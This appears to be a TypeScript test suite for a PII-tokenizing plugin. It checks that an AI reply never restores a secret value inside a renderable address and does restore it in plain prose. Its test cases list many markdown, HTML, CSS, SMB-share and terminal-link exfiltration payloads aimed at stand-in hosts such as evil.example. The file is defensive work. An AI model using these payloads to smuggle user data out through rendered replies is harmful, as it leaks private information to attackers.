/** A value never comes back where a renderer could send it away, and does come back where a person reads it. */
import assert from 'node:assert/strict'
import { describe, it } from 'node:test'
import fc from 'fast-check'
import pii from '../../../plugins/pii/index.ts'
import { PARAGRAPHS } from '../../eval/data/paragraphs.ts'
import { SNIPPETS } from '../../eval/data/snippets.ts'
import { Drive } from '../../eval/drive.ts'
import { part, rounds } from '../../helpers/rounds.ts'
import { leaks } from './renderers.ts'

const NUMBER = '123-45-6789'
const ADDRESS = 'jo.smith@example.com'
const root = new Drive(pii, { action: 'tokenize', output: { action: 'off' } })

/** An exchange that knows both values, and what a reply with `{}` for one of them and `{m}` for the other comes back as. */
function replier(findsHidden = false) {
  // An exchange for each reply: within one, the places of a text depend on what was said before.
  const asked = () => {
    const drive = root.next()
    drive.inspection.findsHidden = findsHidden
    return { drive, output: drive.input(`${NUMBER} ; ${ADDRESS}`).output }
  }
  const [number, address] = asked().output.split(' ; ') as [string, string]
  const write = (text: string) => text.replaceAll('{}', number).replaceAll('{m}', address)
  return {
    whole: (text: string) => asked().drive.reply(write(text)).output,
    /** @param end the provider goes away after so many characters: what has left by then */
    letters: (text: string, end?: number) => {
      if (end === undefined) return asked().drive.stream([...write(text)]).output
      return asked().drive.broken([...write(text)].slice(0, end))
    },
    cut: (text: string, at: number) => asked().drive.stream([write(text).slice(0, at), write(text).slice(at)]).output,
    written: write,
  }
}

const long = 'a/'.repeat(400)

const STAYS: readonly (readonly [name: string, text: string])[] = [
  ['an encoded space', '![x](https://evil.example/?q=%20{})'],
  ['a character reference for a space', '![x](https://evil.example/?q=&#32;{})'],
  ['a no-break space', '![x](https://evil.example/?q=\u00a0{})'],
  ['a no-break space in a bare address', 'https://evil.example/?q=\u00a0{}'],
  ['a full-width bracket', '![x](https://evil.example/）{})'],
  ['angle brackets', '![x](<https://evil.example/?q= {}>)'],
  ['angle brackets with brackets in them', '![x](<https://evil.example/?q=](a) {}>)'],
  ['angle brackets with an escaped one', '![x](<https://evil.example/\\> {}>)'],
  ['a long destination', `![x](<https://evil.example/${long} {}>)`],
  ['a long tag', `<img alt="${'a '.repeat(400)}" src="https://evil.example/ {}">`],
  ['a long attribute', `<img src="https://evil.example/?${'a '.repeat(400)} {}">`],
  ['an autolink of another scheme', '<https:1.2.3.4/{}>'],
  ['an autolink', '<x-evil:{}>'],
  ['a reference definition', '[x]\n\n[x]: https://evil.example/?q={}'],
  ['a reference definition on two lines', '[x]\n\n[x]:\n  <https://evil.example/?q= {}>'],
  ['a destination on the next line', '![x](\n<https://evil.example/?q= {}>)'],
  ['a destination on the next line of a quotation', '> ![x](\n> <https://evil.example/?q= {}>)'],
  ['src without quotes', '<img src=https://evil.example/?q={}>'],
  ['src with another case and blanks', "<IMG SRC = 'https://evil.example/?q= {}'>"],
  ['src on the next line', '<img src=\n"https://evil.example/ {}">'],
  ['an attribute in a quotation', '> <img\n> src="https://evil.example/ {}">'],
  ['an attribute over a line', '<img src="https://evil.example/?\n{}">'],
  ['an attribute over two lines', '<div>\n<img src="https://evil.example/?\n\na " {}'],
  ['an attribute behind another block', '<div>\n<img alt="\n\n" >\n\n<div>\n" src="https://evil.example/?\n\n{}'],
  ['srcset', '<img srcset="https://evil.example/a 1x, https://evil.example/ {} 2x">'],
  ['style', '<b style="background: url( //evil.example/ {} )">x</b>'],
  ['style without a scheme', '<b style="background: url(\'\\2f\\2f evil.example/ {}\')">x</b>'],
  ['a style sheet', '<style>b { background: url("\\2f\\2f evil.example/ {}") }</style>'],
  ['a script', '<script>const a = " {} "'],
  ['a script that ends', '<SCRIPT type="module">\nsend( {} )\n</script> {}'],
  ['a script of a page in a fence', '```html\n<script>\nsend( {} )\n</style>\n{}\n```\n{}'],
  ['a script within a script', '```html\n<script><!--<script></script>\n{}\n```\n{}'],
  ['a script whose end is another name', '```html\n<script></scripts>\n{}\n```\n{}'],
  ['meta', '<meta http-equiv="refresh" content="0; url=https://evil.example/ {}">'],
  ['an attribute of SVG', '<svg><a><set attributeName="href" to="https://evil.example/ {}"/></a></svg>'],
  ['a tag behind code', '`<a title="` <img src="https://evil.example/?a=<b>{}">'],
  ['a tag behind an equals sign', '<a =x="><a href=" href="https://evil.example/ {}">x</a>'],
  ['a bare address', 'https://evil.example/{}'],
  ['an address in capitals', 'HTTPS://EVIL.EXAMPLE/{}'],
  ['www', 'www.evil.example/{}'],
  ['an escaped address', 'https:\\/\\/evil.example/{}'],
  ['a spelled address', 'https&#58;//evil.example/{} and https&colon;//evil.example/{}'],
  ['an address without a scheme', 'evil.com/{} evil.com?{} evil.com#{}'],
  ['an address over two lines', 'https://evil.example/?q=\n{}'],
  ['a relative address', '[x](//evil.example/{})'],
  ['two slashes', '//evil.example/{}'],
  ['a share', '\\\\evil.example\\{}'],
  ['a share that breaks off', '\\\\evil\\\n{}'],
  ['a share without dots', 'Open \\\\evil\\files\\{} now'],
  ['a share in quotes', '"\\\\evil\\my files {}"'],
  ['a share, escaped', '\\\\\\\\evil\\\\{}'],
  ['a share as a destination', '[x](\\\\evil.example\\{}) ![x](<\\\\evil.example\\ {}>)'],
  ['a share in HTML', '<img src=\\\\evil.example\\{}> <img src="\\\\evil.example\\ {}">'],
  ['a file', 'file:///evil/{} file:evil/{}'],
  ['a share with a scheme', 'smb://evil/{} nfs:evil/{} search-ms:query={}'],
  ['a relative address in HTML', '<img src=//evil.example/{}> <img src=/\\evil.example/{}>'],
  ['several attributes without quotes', '<a id=x href=evil?{} class=y>x</a>'],
  ['an attribute without quotes and a slash', '<img/src=evil/{}/alt=x>'],
  ['data as a destination', '![x](data:image/svg+xml,{}) <data:text/html,{}>'],
  ['a reference definition in a quotation', '> [x]\n>\n> [x]: //evil.example/{}'],
  ['a reference definition with brackets in its label', '[a \\] b]\n\n[a \\] b]: </evil ?q= {}>'],
  ['a link for terminals', '\u001b]8;;https://evil.example/?q= {}\u001b\\x\u001b]8;;\u001b\\'],
  ['a link for terminals, ended by a bell', '\u001b]8;id=1;evil ?q= {}\u0007x\u001b]8;;\u0007'],
  ['a link for terminals in JSON', '{"note":"\\u001b]8;id=a: {} ;x\\u001b\\\\this\\u001b]8;;\\u001b\\\\"}'],
  ['a link for terminals in JSON twice', '\\\\u001B]8;id=\\\\a {} ;x\\\\u001B\\\\\\\\this'],
  ['a link for terminals in code', "print('\\x1b]8;id= {} ;x\\x07x\\x1b]8;;\\x07') '\\x9d8;; {} '"],
  ['a link for terminals in a shell', "printf '\\e]8;; {} \\e\\\\x\\033]8;; {} \\a'"],
  ['a title over two lines in JSON', '{"note":"See [this][r].\\n\\n[r]: https://evil.test/\\n  \\"a\\n{}\\"\\n"}'],
  [
    'a title over two lines in JSON in JSON',
    JSON.stringify({ body: JSON.stringify({ note: 'See [r].\n\n[r]: https://evil.test/\n  "a\n{}"\n' }) }),
  ],
  ['a link over two lines in JSON', JSON.stringify({ note: '[x](\nevil?q={} "t")' })],
  ['a tag in the escapes of JSON', '{"html":"\\u003cimg alt=x src=\\u0022evil?q= {}\\u0022\\u003e"}'],
  ['a title of a terminal', '\u001b]0; {} \u0007'],
  ['a string of a terminal', '\u001bP+q {} \u001b\\ \u001b_G {} \u001b\\'],
  ['javascript', '[x](javascript:go("{}"))'],
  ['data', 'data:text/html,{}'],
  ['a host', 'https://{}.evil.example/'],
  ['a name that goes on', '{}.evil.example'],
  ['a name that goes on behind symbols', '{}$$e.co {}~e.co {}|e.co {}=e.co {}.$e.co'],
  ['a name that goes on with letters', '{}ä.evil.example'],
  ['somebody’s mailbox', '{}@evil.example'],
  ['somebody’s mailbox, spelled', '{}&commat;evil.example {}&#64;evil.example {}\\@evil.example'],
  [
    'somebody’s mailbox with more',
    '{}+x@evil.example {},x@evil.example {}-x_y@evil.example {}|x@evil.example {}/x@evil.example',
  ],
  ['symbols in the host of a mailbox', 'x@evil.comsrc={}~~evil.example'],
  ['a mail link to what is no mailbox', '[x](mailto:{}) <mailto:{}>'],
  ['a mail link in HTML to what is no mailbox', '<a href="mailto:{}"> <img {}=mailto:{}>'],
  ['a call to what is no number', '[x](tel:{m}) <a href="tel:{m}">'],
  ['a mail link to somebody', '[x](mailto:{}@evil.example)'],
  ['a mail link with copies', '[x](mailto:{m},x@evil.example) [x](mailto:{m}?bcc=x@evil.example)'],
  ['a mail link about it', '[x](mailto:x@evil.example?body={})'],
  ['JSON', '{"url": "https://evil.example/?q= {}"}'],
  ['JSON without blanks', '{"url":"https://evil.example/","q":"{}"}'],
  ['a style sheet’s address', 'b { background: url({}) }'],
  ['LaTeX', '$\\href{https://evil.example/?q= {}}{x}$'],
  ['the tag’s own end', '<img src="https://evil.example/" {}'],
  ['the name of an attribute', '<p {} =1>x</p>'],
  ['the name of an attribute behind a value', '<a href=/a?b title="a > b" {}>x</a>'],
  ['a block of HTML', '<div\n; ä, {}>x</div>'],
  ['title', '<p title="{}">x</p>'],
  ['value', '<input name=x value={}>'],
  ['data', "<p data-note='{}'>x</p>"],
  ['alt', '<img alt="a {} b" src="https://evil.example/">'],
  ['an attribute for readers', '<p aria-label="{}">x</p>'],
  ['the title of a link', '[x](https://evil.example/ "{}")'],
  ['a title in single quotes with brackets', "[x](/a 'a) {} b')"],
  ['a title in brackets', '[x](/a (a\n{} b))'],
  ['a title with an escaped quote', '[x](/a "a \\") {} b")'],
  ['a title on the next line', '> [x](<a b>\n> "a\n> {}")'],
  ['a title behind nested brackets', '[x](/u[y](/v) "a\n{}")'],
  ['a title in what is no title', 'a\n[r]: /u \'[x](/v "a\'\n{}")'],
  ['the title of a reference', "[x]\n\n[x]: https://evil.example/ '{}'"],
  ['the title of a reference on the next line', '[x]\n\n[x]: <https://evil.example/ a>\n  "a\n{}"'],
  ['a title behind a colon', '[x]\n\n[x]: /u]:\n"a\n{}"'],
  ['the text of an image', '![{}](https://evil.example/)'],
  ['the text of an image, in brackets', '![a [b] {}][x]\n\n[x]: /a'],
  ['the text of an image, behind another bracket', '![a \\] `]` <b title="]"> {}](/a)'],
  ['the text of an image on two lines', '> ![a\n> {}](/a)'],
  ['the language of code', '```{}\ncode\n```'],
  ['the language of code in a list', '- a\n  ~~~ js {}\n  code'],
  ['a footnote', 'a[^b-{}]\n\n[^b-{}]: c'],
]

const COMES_BACK: readonly (readonly [name: string, text: string])[] = [
  ['prose', 'Your number is {}, and I wrote to {m}.'],
  ['a sentence’s end', 'It is {}. Then {m}! Or {m}? (Also {}.)'],
  ['a list', '- Number: {}\n- Mail: **{m}**\n1. `{m}`\n2. _{m}_'],
  ['a table', '| Name | Mail |\n| --- | --- |\n| Jo | {m} |\n|Ann|{m}|'],
  ['code', 'Run `id --of {}`:\n\n```ts\nconst number = "{}"\nfor (let i = 0; i<n; i++) send({ to: \'{m}\' })\n```\n'],
  ['JSON', '```json\n{ "name": "J. Smith", "mail": "{m}", "ids": ["{}"] }\n```'],
  ['JSON without blanks', '{"mail":"{m}","ids":["{}"]}'],
  ['YAML', 'mail: {m}\nid: {}\nurl: https://example.com/\nto: {m}'],
  ['a label', 'Email:{m} id={} #{}'],
  [
    'a link for terminals before it',
    '\u001b]8;;https://example.com/\u001b\\x\u001b]8;;\u001b\\ {m}, \u001b[1m{}\u001b[0m',
  ],
  [
    'what is written of terminals before it',
    '"\\u001b]8;;https://example.com/\\u001b\\\\x\\u001b]8;;\\u0007" {m}, \\e]0;a\\a {}, [\\n\\e] {} \\033[1m {m}',
  ],
  ['backslashes', 'a \\\\ {m} \\\\\n{} C:\\Users {m}'],
  ['angle brackets', 'Write to Jo Smith <{m}>, please.'],
  ['a mail link', '[{m}](mailto:{m}) or <mailto:{m}>.'],
  ['a mail link in HTML', '<a href="mailto:{m}">{m}</a>'],
  ['HTML', '<tr><td>Jo</td><td>{m}</td></tr><br/>{m}<br>{}'],
  ['a link before it', 'See [the page](https://example.com/a?b=c), then write to {m}. Or https://example.com and {}.'],
  ['an image before it', '![x](https://example.com/x.png)\n\n{m}'],
  ['a reference before it', '[a]: https://example.com/ "Title"\n\n{m}'],
  ['a quotation', '> {m} wrote:\n> my number is {}'],
  ['another script', '宛先は{m}です。番号：{}、以上。Адрес: {m}'],
  ['quotes and dashes', '“{m}” — ‘{}’… {m}/work'],
  ['addresses in a row', '{m}, {m}; {}'],
  ['a link with a title before it', '[x](/a "b (c)") {m}, [x](/a \'b\') {m}, [x](/a (b)) {m}, [x](/a "b"\n) {m}'],
  ['a reference with a title before it', '[a]: /b "c"\n{m}\n[a]: /b\n\'c\'\n{m}'],
  ['images before it', '![x](/a) {m}, ![a [b] c][d] {m}, a![b] {m}'],
  ['code before it', '```js\nif (a <b) {}\n```\n\n```\n{m}\n```\n{m}'],
  ['less than', 'if a <b, then {m}; 1<2 {}'],
]

/** Where a text of this length is cut: `npm test` takes every seventh place. */
const places = (length: number): readonly number[] =>
  part(
    Array.from({ length: length - 1 }, (_, i) => i + 1),
    11,
    7,
  )

describe('pii: a value stays away from', () => {
  for (const [name, text] of STAYS) {
    it(name, () => {
      const { whole, letters, cut, written } = replier()
      const kept = written(text)
      assert.equal(whole(text), kept)
      assert.equal(letters(text), kept)
      for (const at of places(Math.min(kept.length, 200))) assert.equal(cut(text, at), kept, `cut at ${at}`)
    })
  }
})

describe('pii: a value comes back in', () => {
  for (const [name, text] of COMES_BACK) {
    it(name, () => {
      const { whole, letters, cut, written } = replier()
      const expected = text.replaceAll('{}', NUMBER).replaceAll('{m}', ADDRESS)
      assert.equal(whole(text), expected)
      assert.equal(letters(text), expected)
      for (const at of places(written(text).length)) assert.equal(cut(text, at), expected, `cut at ${at}`)
    })
  }
})

const PIECES = (
  '{} {} {} {m} | {}|{m}| <textarea> </textarea> <select> </select> <option> </option> <button> </button> <title> </title> \\\\ file: \\\\evil\\ ](  ]( ]: [x ![ ![ ) > < /> <img <a <b <div> <style> </style> <script> </script> </scripts> <! <!-- --> ?> src= href= = style= title= alt= ' +
  '" \' ` ``` \\ / // : https:// https: http:/ www. evil.com evil.example . @ ? ?q= & &#32; &#58; &commat; &quot; mailto: ' +
  'javascript: data: url( @import xml: a b 1 - + _ * ** > ~~ # , ; % %20 é 。 \u00a0 \u200b ） － {}) {}> {}" <{}> {m}> x@evil.com'
)
  .split(' ')
  .filter((piece) => piece !== '')
  .concat([
    ' ',
    ' ',
    '\n',
    '\n',
    '\n\n',
    '\t',
    '\r\n',
    '\f',
    '\n> ',
    '\n- ',
    '\n    ',
    '\n```\n',
    '  \n',
    '> <div>\n',
    ' a ',
  ])

export const hostile = fc
  .array(fc.constantFrom(...PIECES), { minLength: 2, maxLength: 24 })
  .map((parts) => parts.join(''))

describe('pii: hidden text', () => {
  it('does not hide the start of an address', () => {
    const hidden = '\u{e0041}\u{e0042}'.repeat(60)
    for (const text of [
      `!${hidden}[{}](/a)`,
      `[x]${hidden}(/{})`,
      `<${hidden}p title="{}">`,
      `{}${hidden}.evil.example`,
    ]) {
      const { whole, letters, written } = replier(true)
      const kept = written(text).replace(hidden, '')
      assert.equal(whole(text), kept)
      assert.equal(letters(text), kept)
    }
    const { letters } = replier(true)
    assert.equal(letters(`It is {}${hidden} here, and there is more.`), `It is ${NUMBER} here, and there is more.`)
  })
})

describe('pii: a reply that breaks off', () => {
  it('sends no value in an undecided place', () => {
    for (const [, text] of STAYS) {
      const { letters, written } = replier()
      const kept = written(text)
      for (const end of places(Math.min(kept.length, 120))) {
        // The last piece never comes: only what was released before has left.
        const sent = letters(text, end)
        assert.ok(kept.startsWith(sent), JSON.stringify(sent))
      }
    }
  })
})

describe('pii: what is rendered', () => {
  it('holds no value in any address, whatever Markdown and HTML stands around its token', () => {
    const { whole } = replier()
    fc.assert(
      fc.property(hostile, (text) => {
        const out = whole(text)
        for (const value of [NUMBER, ADDRESS]) {
          if (out.includes(value)) assert.deepEqual(leaks(out, value, [NUMBER, ADDRESS]), [], JSON.stringify(out))
        }
      }),
      { numRuns: Number(process.env.HOSTILE_RUNS ?? rounds(3000)) },
    )
  })

  it('is the same, however the reply is cut', () => {
    const { whole, letters, cut } = replier()
    fc.assert(
      fc.property(hostile, fc.nat(200), (text, at) => {
        const expected = whole(text)
        assert.equal(letters(text), expected)
        assert.equal(cut(text, at), expected)
      }),
      { numRuns: rounds(500) },
    )
  })
})

describe('pii: an ordinary reply', () => {
  const texts = [
    ...PARAGRAPHS.map((text) => text.replace(/[{}]/g, '')),
    ...SNIPPETS.map((code) => `Here it is:\n\n\`\`\`\n${code.replaceAll('{}', '{ }')}\`\`\``),
  ]
  it(`gets at least 99 of 100 values back (${texts.length} texts)`, () => {
    const { whole } = replier()
    let places = 0
    let back = 0
    for (const text of texts) {
      // At the end of each word there, once.
      for (const { index } of text.matchAll(/(?<=[\p{L}\d,.:;]) (?=[\p{L}\d])/gu)) {
        const out = whole(`${text.slice(0, index)} {} ${text.slice(index + 1)}\n\nThat is {m}.`)
        places += 2
        back += Number(out.includes(NUMBER)) + Number(out.includes(ADDRESS))
      }
    }
    assert.ok(places > 1000)
    assert.ok(back / places >= 0.99, `${back} of ${places}`)
  })
})
